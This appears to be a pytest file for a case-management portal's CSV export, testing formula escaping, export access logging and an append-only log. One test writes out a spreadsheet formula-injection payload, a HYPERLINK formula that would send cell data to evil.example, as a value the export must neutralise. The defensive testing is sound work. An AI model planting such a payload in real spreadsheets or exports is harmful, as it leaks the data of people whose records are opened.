"""The case CSV export: spreadsheet-safe cells (the same helper as the annual report's CSV), and an access-log row
for every export: who, the filters, how many rows, and whether contact details were in it."""

import csv
import io
import json

import pytest
from sqlalchemy import select

from portal.clock import london_today
from portal.models import CaseKind, User
from portal.models.cases import AppendOnlyError
from portal.models.triage import CaseExport
from tests.triage.conftest import new_case


def exported(pages, url="/staff/cases.csv"):
    response = pages.client.get(url)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def test_case_csv_cells_that_would_run_as_formulas_start_with_an_apostrophe(pages, make_user, db_session):
    new_case(
        db_session,
        london_today(),
        reply_route="phone",
        reply_phone="+44 7700 900123",
        name='=HYPERLINK("https://evil.example/?"&A1,"Sam")',
    )
    pages.sign_in(make_user("manager"))
    header, row = exported(pages)
    cells = dict(zip(header, row, strict=True))
    assert cells["name"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Sam")'
    assert cells["phone"] == "'+44 7700 900123"


def export_log(db_session):
    db_session.expire_all()
    return db_session.scalars(select(CaseExport).order_by(CaseExport.id)).all()


def test_a_managers_export_is_logged_with_its_filters_rows_and_contact_details(pages, make_user, db_session):
    today = london_today()
    for number in range(3):
        new_case(db_session, today, reference=f"TU-EXP{number + 2}-22", reply_route="email", reply_email="a@ex.org")
    new_case(db_session, today, reference="TU-SUGG-22", kind=CaseKind.SUGGESTION)
    manager = make_user("manager")
    pages.sign_in(manager)

    lines = exported(pages, "/staff/cases.csv?kind=complaint&status=open")

    (row,) = export_log(db_session)
    assert row.user.email == manager and row.rows == 3 == len(lines) - 1
    assert row.with_contact_details and row.contact_rows == 3
    assert json.loads(row.filters)["kind"] == "complaint" and json.loads(row.filters)["status"] == "open"


def test_an_officers_export_is_logged_with_only_their_own_cases_contact_details(pages, officer, db_session):
    today = london_today()
    mine = new_case(db_session, today, reference="TU-MINE-22", reply_route="email", reply_email="me@example.org")
    new_case(db_session, today, reference="TU-OTHR-22", reply_route="email", reply_email="other@example.org")

    exported(pages, "/staff/cases.csv?officer=none")  # only the case nobody has: no contact details in it
    mine.assigned_to_id = db_session.scalar(select(User.id).where(User.email == officer))
    db_session.commit()
    lines = exported(pages)

    without, with_mine = export_log(db_session)
    assert without.user.email == officer and without.rows == 2 and not without.with_contact_details
    assert json.loads(without.filters)["officer"] == "none"
    assert with_mine.rows == 2 == len(lines) - 1 and with_mine.contact_rows == 1 and with_mine.with_contact_details
    assert sum("me@example.org" in ",".join(line) for line in lines) == with_mine.contact_rows


def test_the_export_log_cannot_be_changed(pages, make_user, db_session):
    pages.sign_in(make_user("manager"))
    exported(pages)
    (row,) = export_log(db_session)
    row.rows = 99
    with pytest.raises(AppendOnlyError):
        db_session.commit()
